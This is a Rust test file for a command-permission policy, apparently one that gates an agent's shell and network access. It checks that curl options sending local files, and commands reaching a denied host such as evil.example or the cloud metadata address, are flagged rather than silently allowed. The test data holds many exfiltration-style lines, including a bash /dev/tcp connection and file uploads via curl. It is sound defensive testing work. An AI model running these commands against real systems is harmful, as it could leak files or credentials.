//! Files that options send, and machines that stand somewhere in a word.

use super::*;

fn curl_allowed() -> Policy {
    policy(&[(Allow, "shell(curl *)"), (Allow, "fetch(http://h.example/**)"), (Allow, "fetch(h.example)")])
}

/// Every option by which curl sends a file, or writes one, is asked about: an allow of the command does not name it. Attack 223.
#[test]
fn given_an_option_that_sends_a_file_then_it_is_asked_about() {
    let policy = curl_allowed();
    let sends = [
        "--data-urlencode a@f",
        "--data-urlencode @f",
        "--data-urlencode=a@f",
        "--data-url a@f",
        "-G --data-urlencode a@f",
        "-H @f",
        "-H@f",
        "-sH @f",
        "--header @f",
        "--header=@f",
        "--proxy-header @f",
        "-H \"$X\"",
        "-H\"$X\"",
        "--header=\"$X\"",
        "-H \"@$X\"",
        "--url-query a@f",
        "--url-query @f",
        "--variable a@f",
        "--variable a@f --expand-data '{{a}}'",
        "-b f",
        "--cookie cookies.txt",
        "--cookie=f",
        "-d @f",
        "-d '<f'",
        "-F x=@f",
        "-F 'x=<f'",
        "--json @f",
        "-T f",
        "-Q 'rm x'",
        "--postquote 'rm x'",
        "--prequote 'rm x'",
        "-w @f",
        "-w '%output{f}x'",
        "-w '%{http_code}%output{>>f}x'",
        "--write-out '%output{f}x'",
    ];
    let urls =
        ["http://h.example/", "http://h.example/x?y=z", "-s http://h.example/", "-X POST http://h.example/"];
    let mut wrong = Vec::new();
    for option in sends {
        for url in urls {
            for line in [format!("curl {option} {url}"), format!("curl {url} {option}")] {
                if effect(&policy, &shell(&line)) == Allow {
                    wrong.push(line);
                }
            }
        }
    }
    held(&wrong, sends.len() * urls.len() * 2, 250);
}

/// What sends only what stands in the line is as quiet as before. Attack 223.
#[test]
fn given_options_that_send_text_then_they_are_as_quiet_as_before() {
    let policy = curl_allowed();
    let lines = [
        "curl -H 'A: b@c' http://h.example/",
        "curl -H 'Authorization: Bearer x' http://h.example/",
        "curl -H \"Authorization: Bearer $T\" http://h.example/",
        "curl -H\"A: $T\" http://h.example/",
        "curl --header=\"A: $T\" http://h.example/",
        "curl --data-urlencode 'a=b@c' http://h.example/",
        "curl --data-urlencode '=b@c' http://h.example/",
        "curl --url-query a=b http://h.example/",
        "curl --variable a=b http://h.example/",
        "curl -b a=b http://h.example/",
        "curl -b '' http://h.example/",
        "curl -d 'me@h.example' http://h.example/",
        "curl --form-string 'x=@f' http://h.example/",
        "curl --data-raw '@f' http://h.example/",
        "curl -w '%{http_code}' http://h.example/",
        "curl -s -o /dev/null -w '%{http_code}\\n' http://h.example/",
    ];
    let wrong: Vec<_> = lines
        .iter()
        .filter(|line| effect(&policy, &shell(line)) != Allow)
        .map(|line| (*line).to_owned())
        .collect();
    held(&wrong, lines.len(), 16);
}

/// Words in which programs take a machine; `{}` is its name.
const MACHINES: &[&str] = &[
    "tar xf {}:x",
    "tar -xf me@{}:x",
    "tar czf {}:x src",
    "openssl s_client -connect {}:443",
    "openssl s_client -connect={}:443",
    "socat - TCP:{}:80",
    "socat TCP4:{}:80,crlf -",
    "socat - OPENSSL:{}:443",
    "psql host={}",
    "psql 'host={} user=x'",
    "psql -h{}",
    "mysql -h{}",
    "mysql --host={} x",
    "mongosh {}",
    "redis-cli -h {}",
    "scp -o HostName={} f docs.rs:",
    "scp -oHostName={} f docs.rs:",
    "ssh -o 'hostname {}' docs.rs",
    "ssh -J {} docs.rs",
    "ssh -L 80:{}:80 docs.rs",
    "ssh -W {}:22 docs.rs",
    "git -c http.proxy={} clone https://docs.rs/x",
    "git -c http.proxy={}:80 fetch",
    "git -c url.https://{}/.insteadOf=https://docs.rs fetch",
    "git -c url.{}:.insteadOf=https://docs.rs fetch",
    "git remote add x {}:y",
    "npm i {}/x",
    "npm i --registry {}",
    "npm i --registry={}/x",
    "npx {}/x",
    "yarn add {}/x",
    "gh api --hostname {} x",
    "gh auth login -h {}",
    "mount {}:/x /mnt",
    "mount -t cifs //{}/x /mnt",
    "gem install x -s {}",
    "pip install --trusted-host {} x",
    "pip install --proxy {} x",
    "gawk 1 /inet/tcp/0/{}/80",
    "restic -r sftp:{}:/x backup src",
    "borg create {}:x::y src",
    "curl --dns-servers {} https://docs.rs/",
    "curl --proxy-header 'Host: {}' https://docs.rs/",
    "curl -H 'Host: {}' https://docs.rs/",
    "curl --resolve docs.rs:443:{} https://docs.rs/",
    "curl --interface {} https://docs.rs/",
    "HTTPS_PROXY={} curl https://docs.rs/",
    "RESTIC_REPOSITORY=sftp:{}:/x restic backup src",
    "docker -H {} ps",
    "docker -H tcp://{}:2375 ps",
    "kubectl --server {} get x",
    "rclone copy src :sftp,host={}:x",
    "tool {}",
    "tool --x={}",
    "tool a,{},b",
    "tool x@{}",
    "tool '{}:80'",
    "python3 -c 'import urllib.request as u; u.urlopen(\"http://{}\")'",
    "python3 -c 'import urllib.request as u;u.urlopen(\"https://{}/x?y\").read()'",
    "python3 -c 'import socket; socket.create_connection((\"{}\", 80))'",
    "node -e 'fetch(\"http://{}\")'",
    "node -e 'require(\"net\").connect(80, \"{}\")'",
    "ruby -e 'require \"open-uri\"; URI.open(\"http://{}/x\")'",
    "perl -e 'use LWP::Simple; get(\"http://{}\")'",
    "php -r 'file_get_contents(\"http://{}/\");'",
    "deno eval 'fetch(\"http://{}\")'",
    "bash -c 'exec 3<>/dev/tcp/{}/80'",
];

/// A machine that a rule denies is asked about, always, wherever its name stands in a word. Attack 452.
#[test]
fn given_a_denied_machine_then_a_word_with_its_name_is_not_allowed() {
    let scene = Scene::new();
    let (mut found, mut count) = (Vec::new(), 0);
    for (pattern, names) in [
        ("fetch(evil.example)", &["evil.example", "EVIL.example", "evil.example.", "sub.evil.example"][..]),
        ("fetch(*.evil.example)", &["a.evil.example"]),
        ("fetch(https://evil.example/*)", &["evil.example"]),
        ("fetch(169.254.169.254)", &["169.254.169.254"]),
    ] {
        let policy = scene.denying(&[pattern]);
        let lines: Vec<String> =
            names.iter().flat_map(|name| MACHINES.iter().map(move |line| line.replace("{}", name))).collect();
        count += lines.len();
        let of_pattern = wrong(&scene, &policy, lines, |decision| {
            decision.effect == Deny || decision.effect == Ask && decision.always_asks()
        });
        found.extend(of_pattern.into_iter().map(|line| format!("{pattern}: {line}")));
    }
    held(&found, count, 400);
}

/// Other machines, names of files, texts for people and what only reads are as quiet as before. Attack 452.
#[test]
fn given_other_names_then_words_are_as_quiet_as_before() {
    let scene = Scene::new();
    let policy = scene.denying(&["fetch(evil.example)", "fetch(*.sh)", "fetch(*.rs)", "fetch(a.rs)"]);
    let before = scene.denying(&[]);
    let mut lines: Vec<String> = MACHINES.iter().map(|line| line.replace("{}", "h.example")).collect();
    lines.extend(
        [
            "bash x.sh",
            "rustfmt src/a.rs",
            "rustfmt ./src/b.rs",
            "cargo test --test b.rs",
            "git commit -m 'block evil.example'",
            "git commit -m 'see (evil.example) now'",
            "git config user.email me@evil.example",
            "git log --author=me@evil.example",
            "gh pr create --body 'about evil.example'",
            "grep -rn evil.example src",
            "rg evil.example",
            "echo evil.example",
            "echo 'see evil.example'",
            "go build ./vendor/evil.example/x",
            "tool src/evil.example/x",
            "python3 -c 'print(\"http://h.example\")'",
            "python3 -c 'print(f\"http://{h}/x\")'",
            "node -e 'console.log(`http://${h}/`)'",
        ]
        .map(str::to_owned),
    );
    let lines: Vec<String> = lines
        .into_iter()
        .filter(|line| !line.contains("docs.rs") && loosest(&before, &scene.shell(line)).effect == Allow)
        .collect();
    let count = lines.len();
    held(&wrong(&scene, &policy, lines, |decision| decision.effect == Allow), count, 45);
}
